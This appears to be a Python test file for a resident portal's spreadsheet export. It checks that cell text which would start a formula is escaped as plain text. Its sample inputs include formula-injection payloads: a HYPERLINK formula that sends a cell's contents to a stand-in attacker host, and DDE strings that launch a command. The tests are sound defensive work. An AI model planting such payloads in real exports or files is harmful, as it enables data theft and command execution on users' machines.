"""Exports never hand a resident's text to Excel/WPS as a formula."""

import csv
import io

import pytest
from hypothesis import given

from portal.spreadsheet import FORMULA_TRIGGERS, safe_cell, safe_row

from .strategies import nasty_text


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        "+86 138 0000 0000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
    ],
)
def test_text_that_would_start_a_formula_is_shown_as_text(typed):
    assert safe_cell(typed) == "'" + typed


def test_ordinary_text_numbers_and_blanks_are_untouched():
    assert safe_cell("楼道灯坏了") == "楼道灯坏了"
    assert safe_cell("3号楼 = 漏水") == "3号楼 = 漏水"
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5 and safe_cell(None) is None
    assert safe_row(["=1", 3, "ok"]) == ["'=1", 3, "ok"]


@given(nasty_text())
def test_no_exported_text_starts_a_formula(value):
    cell = safe_cell(value)
    assert cell in (value, "'" + value)
    assert not cell.startswith(FORMULA_TRIGGERS)
    out = io.StringIO()
    csv.writer(out).writerow(safe_row([value, 1]))
    (read_back,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert read_back[0] == cell
